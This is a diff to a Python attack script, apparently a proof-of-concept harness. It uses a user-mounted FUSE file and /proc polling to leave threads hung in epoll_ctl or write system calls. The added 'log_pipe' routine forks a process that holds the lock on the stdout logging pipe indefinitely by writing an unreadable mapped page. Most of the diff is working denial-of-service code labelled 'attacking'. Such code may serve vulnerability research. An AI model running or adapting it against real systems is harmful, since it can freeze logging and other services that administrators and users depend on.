@@ -22,6 +22,8 @@ MNT, DEVICE, FILE = HERE + "/mnt", HERE + "/fuse", HERE + "/mnt/f"
 MAX_FDS = 253
 # When keepalive reads no more of our messages.
 SEND_TIMEOUT = 0.5
+# System calls of x86-64.
+WRITE, EPOLL_CTL = 1, 233
 libc = ctypes.CDLL(None, use_errno=True)
 
 
@@ -181,13 +183,7 @@ def epoll_mutex(text):
     epoll = select.epoll()
     add = lambda: libc.epoll_ctl(epoll.fileno(), 1, file, bytes(16))
     threading.Thread(target=add, daemon=True).start()
-    main = os.getpid()
-    # Until the thread hangs.
-    while True:
-        tasks = [name for name in os.listdir(f"/proc/{main}/task") if name != str(main)]
-        if tasks and " S " in open(f"/proc/{main}/task/{tasks[0]}/stat").read() and polls(tasks[0]):
-            break
-        time.sleep(0.01)
+    until_thread_hangs(EPOLL_CTL)
     sd.show("attacking")
     for _ in range(4):
         try:
@@ -197,10 +193,34 @@ def epoll_mutex(text):
     rest()
 
 
-def polls(task):
-    """Whether a thread is in epoll_ctl(2), x86-64."""
-    with open(f"/proc/self/task/{task}/syscall") as file:
-        return file.read().startswith("233 ")
+def until_thread_hangs(call):
+    """Waits until the only other thread of this process waits in a system call."""
+    main = os.getpid()
+    while True:
+        for task in set(os.listdir("/proc/self/task")) - {str(main)}:
+            with open(f"/proc/self/task/{task}/stat") as stat, open(f"/proc/self/task/{task}/syscall") as syscall:
+                if stat.read().rsplit(") ", 1)[1][0] in "SD" and syscall.read().startswith(f"{call} "):
+                    return
+        time.sleep(0.01)
+
+
+def log_pipe():
+    """Leaves a process behind that holds the lock of our stdout for ever: it writes a page that cannot be read."""
+    fuse.mount_as_user(fuse.READ, MNT, DEVICE)
+    sd.say("READY=1")
+    begin()
+    sd.show("attacking")
+    page = mmap.mmap(os.open(FILE, os.O_RDONLY), fuse.PAGE, prot=mmap.PROT_READ)
+    there, here = os.pipe()
+    if os.fork() == 0:
+        threading.Thread(target=os.write, args=(1, page), daemon=True).start()
+        until_thread_hangs(WRITE)
+        os.write(here, b"!")
+        while True:
+            signal.pause()
+    os.read(there, 1)
+    # The logger now asks how much the pipe holds.
+    os._exit(0)
 
 
 def flush(text):
